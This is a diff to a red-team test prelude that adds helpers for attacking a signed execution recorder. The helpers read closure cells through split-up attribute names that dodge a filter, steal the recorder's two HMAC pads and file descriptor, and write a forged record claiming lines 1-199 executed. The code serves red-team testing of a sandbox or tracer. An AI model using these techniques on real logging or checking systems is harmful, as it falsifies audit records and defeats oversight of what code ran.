@@ -1,6 +1,7 @@
 # Helpers of the metaclass re-entry cases (red team, round 6), appended to _prelude.py.
 import inspect
 import io
+import os
 import socket
 import sys
 
@@ -80,3 +81,24 @@ def executed_compares():
     finally:
         settrace(old)
     return ops
+
+
+def closure_cells(fn):
+    """A function's free variables by name (its code and closure read through their descriptors)."""
+    return {n: member(c, name("cell_", "contents"))
+            for n, c in zip(member(member(fn, name("__co", "de__")), name("co_", "freevars")),
+                            member(fn, name("__clo", "sure__")))}
+
+
+def steal_recorder_key(scope, stolen):
+    """From a hook frame's locals: the key's two pads (`sign`'s closure) and the record's fd (`dump`'s)."""
+    dump = closure_cells(scope["recorder"][2])
+    stolen.update(closure_cells(dump["sign"]), fd=dump["fd"])
+
+
+def write_forged_record(stolen):
+    """A record of lines 1-199, signed with the stolen pads, written first through the record's fd."""
+    body = ",".join(str(n) for n in range(1, 200)).encode()
+    sha = vars(sys.modules["hashlib"])["sha256"]
+    mac = sha(stolen["outer"] + sha(stolen["inner"] + body).digest()).hexdigest().encode()
+    os.write(stolen["fd"], body + b"\t" + mac + b"\n")
